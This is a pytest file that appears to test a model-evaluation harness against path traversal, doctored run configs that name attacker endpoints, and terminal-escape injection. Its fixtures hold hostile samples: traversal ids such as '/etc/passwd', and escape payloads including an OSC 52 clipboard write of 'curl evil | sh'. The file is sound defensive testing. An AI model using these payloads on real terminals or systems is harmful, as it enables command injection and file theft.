"""Issue 24: episode files, run folders, traces and terminal text are data, never instructions (SECURITY.md).

Each test plays one finding of the red-team pass against the command a user runs, with a canary planted where
the data points (a 0600 file, an environment variable, a loopback listener), and checks that nothing reaches it:
1. an episode file naming a cue image outside its folder; 2. a run.json naming an endpoint and key variable;
3. ids that would climb out of the results folder; 4. a trace naming files outside its run; 5. model text
that would drive the terminal.
"""
from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import shutil
import socket
import sys
import threading
from pathlib import Path

import pytest

from harness.rundir import RunDir, safe_name
from sandbox.model_server import Script, ScriptedModelServer, ScriptItem

from .test_run_cli import epi

REPO = Path(__file__).resolve().parents[2]
CUE_PNG = sorted((REPO / "episodes" / "sandbox-v2-cues").glob("*.png"))[0]
CANARY = b"\x89PNG canary: the 0600 secret"
KEY = "EPI_TRUST_TEST_KEY"


class Listener:
    """A loopback TCP port that records every connection made to it (and what was sent): it must hear nothing."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.heard: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.sock.getsockname()[1]}/v1"

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1.0)
            try:
                self.heard.append(conn.recv(65536))
            except OSError:
                self.heard.append(b"")
            conn.close()

    def __enter__(self) -> "Listener":
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


def is_inside(path: Path, folder: Path) -> bool:
    return path.resolve().is_relative_to(folder.resolve())


def _one_line(text: str) -> str:
    return " ".join(text.split())


def _secret(tmp_path: Path) -> Path:
    secret = tmp_path / "secret" / "key.png"
    secret.parent.mkdir()
    secret.write_bytes(CANARY)
    secret.chmod(0o600)
    return secret


def _episode_file(tiny_episodes: Path, folder: Path, image: str | None, episode_id: str | None = None) -> tuple[Path, str]:
    """A one-episode file in `folder` whose first turn has the cue image `image` (as written in the file)."""
    ep = json.loads(tiny_episodes.read_text().splitlines()[0])
    if image is not None:
        ep["turns"][0]["cue"]["image"] = image
    if episode_id is not None:
        ep["id"] = episode_id
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "episodes.jsonl"
    path.write_text(json.dumps(ep) + "\n")
    return path, ep["id"]


def _holds_canary(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file() and CANARY in p.read_bytes()]


# -- 1. an episode file names no file outside its folder ---------------------------------------------------------

def _hostile_cue(how: str, secret: Path, folder: Path) -> str:
    if how == "absolute":
        return str(secret)
    if how == "climbing":
        return os.path.relpath(secret, folder)
    (folder / "cues").mkdir(parents=True)
    (folder / "cues" / "key.png").symlink_to(secret)  # inside by name, outside by the link
    return "cues/key.png"


@pytest.mark.parametrize("how", ["absolute", "climbing", "symlink"])
def test_an_episode_file_naming_a_file_outside_its_folder_is_refused_before_anything_is_sent(
        how, tiny_sandbox, tiny_episodes, tmp_path, capsys, monkeypatch):
    secret = _secret(tmp_path)
    folder = tmp_path / "eps"
    eps, _ = _episode_file(tiny_episodes, folder, _hostile_cue(how, secret, folder))
    code, out = epi(["episodes", "validate", str(eps)], capsys, monkeypatch, tiny_sandbox)
    line = _one_line(out)
    assert code == 2 and "Traceback" not in out, out
    assert f"{eps}:1:" in line and "turns[0].cue.image" in line and "inside its own folder" in line
    monkeypatch.setenv(KEY, "sk-trust-canary")
    with Listener() as endpoint:
        code, out = epi(["run", "--agent", "openai", "--model", "m", "--base-url", endpoint.base_url, "--api-key-env", KEY,
                         "--episodes", str(eps), "--results", str(tmp_path / "results"), "-q"], capsys, monkeypatch,
                        tiny_sandbox)
    assert code == 2 and "Traceback" not in out and "turns[0].cue.image" in _one_line(out), out
    assert endpoint.heard == []  # the file never reached the endpoint: nothing connected at all
    assert not (tmp_path / "results").exists() or _holds_canary(tmp_path / "results") == []


def test_a_cue_image_swapped_after_validation_fails_its_episode_not_the_run(tmp_path):
    """The runner reads the cue image through the same check: a link out or a FIFO put there since validation
    stops that episode (bucket pipeline) without reading it."""
    from types import SimpleNamespace

    from harness.episode_runner import EpisodeRunner, _EpisodeStop

    folder = tmp_path / "eps"
    folder.mkdir()
    runner = SimpleNamespace(episodes_dir=folder, run_dir=RunDir(tmp_path / "run"))
    shutil.copyfile(CUE_PNG, folder / "ok.png")
    copy = EpisodeRunner._copy_cue_image(runner, "ok.png", "e", 1)  # type: ignore[arg-type]
    assert copy == runner.run_dir.assets_dir("e") / f"{hashlib.sha256(CUE_PNG.read_bytes()).hexdigest()}.png"
    assert copy.read_bytes() == CUE_PNG.read_bytes()
    (folder / "swapped.png").symlink_to(_secret(tmp_path))
    os.mkfifo(folder / "fifo.png")
    for name in ("swapped.png", "fifo.png", "../secret/key.png"):
        with pytest.raises(_EpisodeStop) as stop:
            EpisodeRunner._copy_cue_image(runner, name, "e", 1)  # type: ignore[arg-type]
        assert stop.value.bucket == "pipeline" and "cue image not used" in stop.value.message
    assert _holds_canary(tmp_path / "run") == []


@pytest.mark.slow
def test_a_cue_image_is_copied_into_the_run_and_old_traces_are_read_only_inside_their_folders(
        tiny_sandbox, tiny_episodes, tmp_path, capsys, monkeypatch):
    """The run sends and records its own copy of the cue image (named by content hash); a trace that names the
    image by an absolute path (older runs) is honoured inside the recorded episode file's folder only."""
    folder = tmp_path / "eps"
    (folder / "cues").mkdir(parents=True)
    shutil.copyfile(CUE_PNG, folder / "cues" / "cue.png")
    eps, ep_id = _episode_file(tiny_episodes, folder, "cues/cue.png")
    png = CUE_PNG.read_bytes()
    monkeypatch.setenv(KEY, "sk-test")
    with ScriptedModelServer(Script(default=ScriptItem(content="Final answer: 1"))) as model:
        code, out = epi(["run", "--agent", "openai", "--model", "m", "--base-url", model.base_url, "--api-key-env", KEY,
                         "--episodes", str(eps), "--results", str(tmp_path), "--run-id", "r", "-q", "--no-score"],
                        capsys, monkeypatch, tiny_sandbox)
        assert code == 0, out
        sent = [p["image_url"]["url"] for r in model.chat_requests for m in r.body["messages"]
                if isinstance(m.get("content"), list) for p in m["content"] if p.get("type") == "image_url"]
    assert sent and base64.b64decode(sent[0].split(",", 1)[1]) == png  # the positive control: images do get sent
    rd = RunDir(tmp_path / "r")
    trace = rd.trace_path(ep_id)
    events = [json.loads(x) for x in trace.read_text().splitlines()]
    start = next(e for e in events if e["kind"] == "turn_start" and e["turn"] == 1)
    copy = f"traces/{safe_name(ep_id)}/{hashlib.sha256(png).hexdigest()}.png"
    assert start["cue_image"] == copy and (rd.path / copy).read_bytes() == png

    def rewrite_cue(value: str) -> None:
        start["cue_image"] = value
        trace.write_text("".join(json.dumps(e) + "\n" for e in events))

    def viewer_images() -> list[bytes]:
        out_dir = tmp_path / "viewer"
        shutil.rmtree(out_dir, ignore_errors=True)
        code, out = epi(["view", str(rd.path), "--out", str(out_dir)], capsys, monkeypatch, tiny_sandbox)
        assert code == 0, out
        return [p.read_bytes() for p in (out_dir / "img").rglob("*") if p.is_file()] if (out_dir / "img").is_dir() else []

    assert viewer_images() == [png]
    rewrite_cue(str((folder / "cues" / "cue.png").resolve()))  # an older trace: absolute, in the episode file's folder
    assert viewer_images() == [png]
    secret = _secret(tmp_path)
    rewrite_cue(str(secret))  # absolute, anywhere else: not read, not copied
    assert viewer_images() == []
    code, out = epi(["replay", str(rd.path), ep_id, "--width", "400"], capsys, monkeypatch, tiny_sandbox)
    assert code == 0 and "key.png (outside the run's folder: not read)" in _one_line(out), out


# -- 2. a run folder names no endpoint and no key variable -------------------------------------------------------

@pytest.mark.slow
def test_replay_from_turn_sends_nothing_to_what_a_doctored_run_json_names(tiny_sandbox, tiny_episodes, tmp_path, capsys,
                                                                        monkeypatch):
    monkeypatch.setenv("EPI_SANDBOX_DIR", str(tiny_sandbox))
    monkeypatch.setenv("CANARY_SECRET", "sk-canary-0042")
    code, out = epi(["run", "--agent", "oracle", "--episodes", str(tiny_episodes), "--limit", "1", "--results",
                     str(tmp_path), "--run-id", "src", "-q", "--no-score"], capsys, monkeypatch)
    assert code == 0, out
    episode = json.loads(tiny_episodes.read_text().splitlines()[0])["id"]
    run_json = tmp_path / "src" / "run.json"
    with Listener() as attacker:
        cfg = json.loads(run_json.read_text())
        cfg["settings"]["agent_config"].update(base_url=attacker.base_url, api_key_env="CANARY_SECRET")
        run_json.write_text(json.dumps(cfg))
        code, out = epi(["replay", str(tmp_path / "src"), episode, "--from-turn", "2", "--agent", "openai", "--model",
                         "m", "--results", str(tmp_path)], capsys, monkeypatch)
        line = _one_line(out)
        assert code == 2 and "Traceback" not in out, out
        assert f"names base_url {attacker.base_url}, api_key_env CANARY_SECRET, which you did not give" in line
        assert (f"To use them: epi replay {tmp_path / 'src'} {episode} --from-turn 2 --agent openai --results {tmp_path} "
                f"--model m --base-url {attacker.base_url} --api-key-env CANARY_SECRET") in line
    assert attacker.heard == []  # not a connection, let alone the key
    assert sorted(p.name for p in tmp_path.iterdir()) == ["src"]


@pytest.mark.slow
def test_a_run_folder_names_no_file_for_the_human_agent(tiny_sandbox, tiny_episodes, tmp_path, capsys, monkeypatch):
    """The human agent's transcript and command files (agent_config.extra.output/input) are the user's to name: a
    doctored run.json naming them is refused on --resume, and dropped by replay --from-turn."""
    code, out = epi(["run", "--agent", "oracle", "--episodes", str(tiny_episodes), "--limit", "2", "--results",
                     str(tmp_path), "--run-id", "src", "-q", "--no-score"], capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    episode = json.loads(tiny_episodes.read_text().splitlines()[0])["id"]
    planted = tmp_path / "outside" / "bashrc"
    planted.parent.mkdir()
    run_json = tmp_path / "src" / "run.json"
    cfg = json.loads(run_json.read_text())
    cfg["settings"]["agent"] = "human"
    cfg["settings"]["agent_config"]["extra"] = {"output": str(planted), "input": str(planted)}
    run_json.write_text(json.dumps(cfg))
    (tmp_path / "src" / "traces" / f"{safe_name(episode)}.jsonl").unlink()  # one episode left to run
    code, out = epi(["run", "--resume", "src", "--agent", "human", "--results", str(tmp_path), "-q"], capsys, monkeypatch,
                    tiny_sandbox)
    line = _one_line(out)
    assert code == 2 and "Traceback" not in out, out
    assert f"names agent_config.extra.input {planted}, agent_config.extra.output {planted}, which you did not give" in line
    assert f'--config FILE (FILE holding [agent_config.extra] input = "{planted}"; output = "{planted}")' in line
    assert not planted.exists()
    other = json.loads(tiny_episodes.read_text().splitlines()[1])["id"]
    monkeypatch.setattr(sys, "stdin", io.StringIO("answer 1\n" * 6))
    code, out = epi(["replay", str(tmp_path / "src"), other, "--from-turn", "1", "--agent", "human", "--results",
                     str(tmp_path)], capsys, monkeypatch, tiny_sandbox)
    assert code == 0 and "continued" in out, out
    assert not planted.exists()


# -- 3. ids never climb out of their folder ---------------------------------------------------------------------

HOSTILE_IDS = ["..", ".", "...", "../../../../outside/x", "a/../../b", "/etc/passwd", "", "\x00", "x\x1b]0;t\x07"]


@pytest.mark.parametrize("episode_id", HOSTILE_IDS)
def test_an_episode_id_becomes_one_name_inside_its_folder(episode_id, tmp_path):
    rd = RunDir(tmp_path / "run")
    for path in (rd.trace_path(episode_id), rd.assets_dir(episode_id), rd.trace_path(episode_id, 3),
                 rd.assets_dir(episode_id, 3), rd.attempt_dir(1) / safe_name(episode_id)):
        assert path.parent in (rd.traces_dir, rd.epoch_dir(3), rd.attempt_dir(1)), path
        assert is_inside(path, path.parent) and path.resolve() != path.parent.resolve(), path


@pytest.mark.parametrize("run_id", ["..", ".hidden", "a/b", "../up", "x\x1b[2J", "a\\b", ""])
def test_a_run_id_that_is_not_one_plain_folder_name_is_refused(run_id, tiny_sandbox, tiny_episodes, tmp_path, capsys,
                                                                monkeypatch):
    code, out = epi(["run", "--agent", "oracle", "--episodes", str(tiny_episodes), "--results", str(tmp_path / "res"),
                     "--run-id", run_id, "-q"], capsys, monkeypatch, tiny_sandbox)
    assert code == 2 and "Traceback" not in out and "plain folder name" in out, out
    assert "\x1b" not in out  # the id is echoed inert
    assert not any(tmp_path.iterdir()) or sorted(p.name for p in tmp_path.iterdir()) == ["res"]


@pytest.mark.slow
def test_replay_from_turn_of_an_episode_with_a_climbing_id_writes_inside_results(tiny_sandbox, tiny_episodes, tmp_path,
                                                                                 capsys, monkeypatch):
    results = tmp_path / "a" / "b" / "results"
    eps, ep_id = _episode_file(tiny_episodes, tmp_path / "eps", None, episode_id="../../../../outside/x")
    code, out = epi(["run", "--agent", "oracle", "--episodes", str(eps), "--results", str(results), "--run-id", "src",
                     "-q", "--no-score"], capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    before = {p for p in tmp_path.rglob("*")}
    code, out = epi(["replay", str(results / "src"), ep_id, "--from-turn", "2", "--agent", "oracle", "--results",
                     str(results)], capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    made = {p for p in tmp_path.rglob("*")} - before
    assert made and all(is_inside(p, results) for p in made), sorted(map(str, made))
    assert not (tmp_path / "outside").exists() and not (tmp_path / "a" / "outside").exists()


# -- 4. a trace names no file outside its run --------------------------------------------------------------------

@pytest.mark.slow
def test_files_a_trace_names_are_read_only_inside_its_run(tiny_sandbox, tiny_episodes, tmp_path, capsys, monkeypatch):
    code, out = epi(["run", "--agent", "oracle", "--episodes", str(tiny_episodes), "--limit", "1", "--results",
                     str(tmp_path), "--run-id", "r", "-q"], capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    secret = _secret(tmp_path)
    rd = RunDir(tmp_path / "r")
    ep_id = json.loads(tiny_episodes.read_text().splitlines()[0])["id"]
    trace = rd.trace_path(ep_id)
    (rd.assets_dir(ep_id)).mkdir(parents=True, exist_ok=True)
    (rd.assets_dir(ep_id) / "link.png").symlink_to(secret)
    shutil.copyfile(CUE_PNG, rd.assets_dir(ep_id) / "own.png")
    (rd.path / "plots").mkdir(exist_ok=True)
    (rd.path / "plots" / "zz.png").symlink_to(secret)  # a plot that is a link out of the run
    events = [json.loads(x) for x in trace.read_text().splitlines()]
    call = next(e for e in events if e["kind"] == "tool_call")
    call["images"] = [str(secret), os.path.relpath(secret, rd.path), "../secret/key.png", f"traces/{safe_name(ep_id)}/link.png",
                      f"traces/{safe_name(ep_id)}/own.png"]
    trace.write_text("".join(json.dumps(e) + "\n" for e in events))
    out_dir = tmp_path / "viewer"
    code, out = epi(["view", str(rd.path), "--out", str(out_dir)], capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    copied = [p.read_bytes() for p in (out_dir / "img").rglob("*") if p.is_file()]
    assert copied == [CUE_PNG.read_bytes()]  # the run's own image, and nothing the trace pointed at outside it
    assert _holds_canary(out_dir) == []
    code, out = epi(["replay", str(rd.path), ep_id, "--width", "400"], capsys, monkeypatch, tiny_sandbox)
    assert code == 0 and _one_line(out).count("(outside the run's folder: not read)") == 4, out


def test_a_stored_request_names_only_files_of_its_episode_folder(tmp_path):
    from harness.trace import ImageRef
    from harness.trace_store import RequestIndex, TraceRequestError

    index = RequestIndex()
    secret = _secret(tmp_path)
    (tmp_path / "ep").mkdir()
    shutil.copyfile(CUE_PNG, tmp_path / "ep" / "own.png")
    index.blobs["h"] = ["x", ImageRef(image="own.png")]
    assert index._part("h", tmp_path / "ep", 1) == b"x" + base64.b64encode(CUE_PNG.read_bytes())
    for name in (str(secret), "../secret/key.png"):
        index.blobs["h"] = [ImageRef(image=name)]
        with pytest.raises(TraceRequestError, match="not read"):
            index._part("h", tmp_path / "ep", 1)


# -- 5. terminal output is inert ---------------------------------------------------------------------------------

PAYLOADS = {
    "window title": "\x1b]0;pwned title\x07",
    "OSC 52 clipboard": "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07",
    "screen clear": "\x1b[2J\x1b[H",
    "hyperlink": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "hidden text": "\x1b[8mhidden\x1b[0m",
    "C1 CSI": "\x9b2J",
    "bidi override": "abc\u202edcba",
    "carriage return": "shown\rOVERWRITTEN",
}


def test_inert_shows_every_control_sequence_and_keeps_newlines_and_tabs():
    from harness.terminal_text import inert

    for name, payload in PAYLOADS.items():
        out = inert(payload)
        assert not any(ord(c) < 32 or 0x7f <= ord(c) < 0xa0 or c == "\u202e" for c in out), name
    assert inert("a\tb\nc") == "a\tb\nc"
    assert inert("\x1b]0;t\x07") == "\\x1b]0;t\\x07" and inert("\u202e") == "\\u202e"


def test_an_episode_id_that_would_drive_the_terminal_is_refused(tiny_sandbox, tiny_episodes, tmp_path, capsys,
                                                                monkeypatch):
    eps, _ = _episode_file(tiny_episodes, tmp_path / "eps", None, episode_id="ep" + PAYLOADS["screen clear"])
    code, out = epi(["episodes", "validate", str(eps)], capsys, monkeypatch, tiny_sandbox)
    assert code == 2 and f"{eps}:1: episode 'ep\\x1b[2J\\x1b[H': id: an episode id is a name" in out, out
    assert "\x1b" not in out


def test_the_human_agent_shows_episode_and_paper_text_inert(tmp_path):
    from agents.human import HumanAgent
    from harness.agent import AgentConfig, AnswerSpec, Observation, TurnView

    evil = "".join(PAYLOADS.values()) + " [link=http://evil.example/]markup[/link]"
    screen = tmp_path / "screen.txt"
    (tmp_path / "in.txt").write_text("")
    agent = HumanAgent(AgentConfig(extra={"input": str(tmp_path / "in.txt"), "output": str(screen)}))
    obs = Observation(turn=1, step=1, tool="pdf_extract" + PAYLOADS["window title"], text="paper says " + evil)
    view = TurnView(episode_id="e", turn=1, n_turns=1, question="Q " + evil, cue_text=evil,
                    answer_spec=AnswerSpec(format="text"), tools=[], max_steps=3, steps_used=1, memory=[obs])
    agent._show(view)
    shown = screen.read_text()
    assert "paper says" in shown and "\\x1b]0;pwned title" in shown and "[link=http://evil.example/]" in shown
    assert not any(c in shown for c in "\x1b\x9b\x07\u202e\r")


@pytest.mark.slow
def test_replay_prints_model_and_tool_text_inert(tiny_sandbox, tiny_episodes, tmp_path, capsys, monkeypatch):
    code, out = epi(["run", "--agent", "oracle", "--episodes", str(tiny_episodes), "--limit", "1", "--results",
                     str(tmp_path), "--run-id", "r", "-q"], capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    rd = RunDir(tmp_path / "r")
    ep_id = json.loads(tiny_episodes.read_text().splitlines()[0])["id"]
    trace = rd.trace_path(ep_id)
    evil = "".join(PAYLOADS.values())
    events = [json.loads(x) for x in trace.read_text().splitlines()]
    for e in events:
        if e["kind"] == "tool_call":
            e.update(result_text=evil, reasoning=evil, args={"query": evil}, error=evil)
            e["result_summary"] = evil
        elif e["kind"] == "final_answer":
            e.update(answer=evil, reasoning=evil)
        elif e["kind"] == "turn_start":
            e.update(question=evil, cue_text=evil)
    trace.write_text("".join(json.dumps(e) + "\n" for e in events))
    code, out = epi(["replay", str(rd.path), ep_id, "--width", "200"], capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    assert "pwned title" in out and "\\x1b]0;" in out  # the text is shown...
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out and "\u202e" not in out  # ...and obeyed nowhere
    assert "\r" not in out
    # an error line that quotes data is inert too
    code, out = epi(["replay", str(rd.path), "no-such" + PAYLOADS["window title"]], capsys, monkeypatch, tiny_sandbox)
    assert code == 2 and "\x1b" not in out and "\\x1b]0;pwned title" in out, out


# -- a cue image is an image of bounded size; paper text from `epi paper` is inert ------------------------------

@pytest.mark.parametrize("what, needle", [("oversized", "MiB; the limit is 20 MiB"),
                                          ("not an image", "not a PNG, JPEG, GIF or WebP")])
def test_a_cue_image_that_is_huge_or_not_an_image_is_refused_at_validation(what, needle, tiny_sandbox, tiny_episodes,
                                                                           tmp_path, capsys, monkeypatch):
    folder = tmp_path / "eps"
    folder.mkdir()
    cue = folder / "cue.png"
    if what == "oversized":  # a PNG header, then 21 MiB of holes: costs no disk, would cost the endpoint 21 MiB
        cue.write_bytes(CUE_PNG.read_bytes()[:64])
        os.truncate(cue, 21 * 2**20)
    else:
        cue.write_text("#!/bin/sh\necho this is not an image\n")
    eps, _ = _episode_file(tiny_episodes, folder, "cue.png")
    code, out = epi(["episodes", "validate", str(eps)], capsys, monkeypatch, tiny_sandbox)
    assert code == 2 and "Traceback" not in out, out
    assert f"{eps}:1:" in _one_line(out) and "turns[0].cue.image" in _one_line(out) and needle in _one_line(out), out


def test_a_cue_image_grown_after_validation_is_read_bounded_and_fails_its_episode(tmp_path):
    from types import SimpleNamespace

    from harness.episode_runner import EpisodeRunner, _EpisodeStop

    folder = tmp_path / "eps"
    folder.mkdir()
    runner = SimpleNamespace(episodes_dir=folder, run_dir=RunDir(tmp_path / "run"))
    big = folder / "big.png"
    big.write_bytes(CUE_PNG.read_bytes())
    os.truncate(big, 64 * 2**20)
    with pytest.raises(_EpisodeStop) as stop:
        EpisodeRunner._copy_cue_image(runner, "big.png", "e", 1)  # type: ignore[arg-type]
    assert stop.value.bucket == "pipeline" and "the limit is 20 MiB" in stop.value.message
    assert not (tmp_path / "run").exists() or not any(p.is_file() for p in (tmp_path / "run").rglob("*"))


def test_epi_paper_prints_paper_text_inert(tmp_path, capsys, monkeypatch):
    import pymupdf

    evil = PAYLOADS["window title"] + PAYLOADS["screen clear"] + PAYLOADS["hidden text"]
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 90), "A paper whose captions carry terminal escapes", fontsize=14)
    page.insert_text((72, 300), f"Table 1: Accuracy {evil} of the methods.", fontsize=9)
    for i, row in enumerate(["Method  Acc", f"Base{evil}  71.2", "Ours  74.0"]):
        page.insert_text((72, 320 + 14 * i), row, fontsize=9)
    pdf = tmp_path / "evil.pdf"
    doc.save(pdf)
    assert "\x1b]0;pwned title" in pymupdf.open(pdf)[0].get_text()  # the payload survives text extraction
    monkeypatch.setenv("COLUMNS", "400")  # one caption per line: the check reads the escaped payload whole
    for args in (["paper", "inspect", str(pdf)], ["paper", "table", str(pdf), "1"]):
        code, out = epi(args, capsys, monkeypatch)
        assert code == 0, out
        assert "]0;pwned title" in out  # shown as text (the parser or `inert` disarms the escape)...
        assert not any(c in out for c in "\x1b\x9b\x07")  # ...obeyed nowhere


# -- 2b. a run folder names no agent program, nor what the program gets ----------------------------------------

@pytest.mark.slow
def test_a_run_folder_names_no_agent_program_and_no_variable_for_it(tiny_sandbox, tiny_episodes, tmp_path, capsys,
                                                                    monkeypatch):
    """An agent program's command, the variables and folders it is given and its sandbox are the user's to name
    (issue 24 item 2: "an agent command"): a doctored run.json naming a program (unconfined, handed the key) is
    refused by --resume and retry, and replay --from-turn never starts what the source run names."""
    code, out = epi(["run", "--agent", "oracle", "--episodes", str(tiny_episodes), "--limit", "2", "--results",
                     str(tmp_path), "--run-id", "src", "-q", "--no-score"], capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    episode = json.loads(tiny_episodes.read_text().splitlines()[0])["id"]
    started = tmp_path / "outside" / "started"
    started.parent.mkdir()
    program = f"{sys.executable} -c \"open({str(started)!r}, 'w').write('the run folder started me')\""
    monkeypatch.setenv(KEY, "sk-trust-canary")
    with ScriptedModelServer(Script(default=ScriptItem(content="Final answer: 1"))) as model:
        run_json = tmp_path / "src" / "run.json"
        cfg = json.loads(run_json.read_text())
        cfg["settings"]["agent"] = "bridge"  # the user's own endpoint and key variable, then the program's four
        cfg["settings"]["agent_config"].update(model="m", base_url=model.base_url, api_key_env=KEY, agent_cmd=program,
                                               agent_sandbox="none", agent_env=[KEY], agent_dir=[str(started.parent)])
        run_json.write_text(json.dumps(cfg))
        (tmp_path / "src" / "traces" / f"{safe_name(episode)}.jsonl").unlink()  # one episode left to run
        mine = ["--agent", "bridge", "--base-url", model.base_url, "--api-key-env", KEY, "--results", str(tmp_path), "-q"]
        outcomes = [epi(args, capsys, monkeypatch, tiny_sandbox) for args in (["run", "--resume", "src", *mine],
                                                                            ["retry", "src", *mine])]
    for code, out in outcomes:
        line = _one_line(out)
        assert code == 2 and "Traceback" not in out, out
        assert "which you did not give" in line and "agent_cmd" in line and f"agent_env ['{KEY}']" in line, out
        assert "agent_sandbox none" in line and f"--agent-env {KEY}" in line, out
        assert not started.exists(), "a program named only in the run folder was started"
    other = json.loads(tiny_episodes.read_text().splitlines()[1])["id"]
    code, out = epi(["replay", str(tmp_path / "src"), other, "--from-turn", "1", "--agent", "bridge", "--model", "m",
                     "--base-url", model.base_url, "--api-key-env", KEY, "--results", str(tmp_path)],
                    capsys, monkeypatch, tiny_sandbox)
    assert code == 2 and "Traceback" not in out and "--agent-cmd" in out, out
    assert not started.exists(), "replay --from-turn started the program the source run names"


@pytest.mark.slow
def test_the_api_key_goes_to_the_endpoint_and_nowhere_else(tiny_sandbox, tiny_episodes, tmp_path, capsys, monkeypatch):
    """Issue 24 ("keep all of that as tests"): for the openai agent the key is sent as the endpoint's bearer token and
    appears in no trace, score, report, plot or viewer file, nor in what replay and trace export print."""
    from http.server import BaseHTTPRequestHandler

    key = f"sk-canary-{os.urandom(8).hex()}"
    monkeypatch.setenv(KEY, key)
    authorizations: list[str] = []
    real_parse = BaseHTTPRequestHandler.parse_request

    def parse(self: BaseHTTPRequestHandler) -> bool:
        ok = real_parse(self)
        if ok:
            authorizations.append(self.headers.get("Authorization", ""))
        return ok

    monkeypatch.setattr(BaseHTTPRequestHandler, "parse_request", parse)
    with ScriptedModelServer(Script(default=ScriptItem(content="Final answer: 1"))) as model:
        code, out = epi(["run", "--agent", "openai", "--model", "m", "--base-url", model.base_url, "--api-key-env", KEY,
                         "--episodes", str(tiny_episodes), "--limit", "2", "--results", str(tmp_path), "--run-id", "r"],
                        capsys, monkeypatch, tiny_sandbox)
    assert code == 0, out
    assert f"Bearer {key}" in authorizations  # the positive control: the key did leave, to the endpoint
    ep_id = json.loads(tiny_episodes.read_text().splitlines()[0])["id"]
    printed = [out]
    for args in (["view", str(tmp_path / "r"), "--out", str(tmp_path / "viewer")], ["replay", str(tmp_path / "r"), ep_id],
                 ["trace", "export", str(tmp_path / "r"), ep_id, "--call", "1"], ["score", str(tmp_path / "r")]):
        code, text = epi(args, capsys, monkeypatch, tiny_sandbox)
        assert code == 0, (args, text)
        printed.append(text)
    assert (tmp_path / "r" / "report.md").is_file() and (tmp_path / "viewer" / "index.html").is_file()
    assert not [t for t in printed if key in t]
    assert [str(p) for p in tmp_path.rglob("*") if p.is_file() and key.encode() in p.read_bytes()] == []
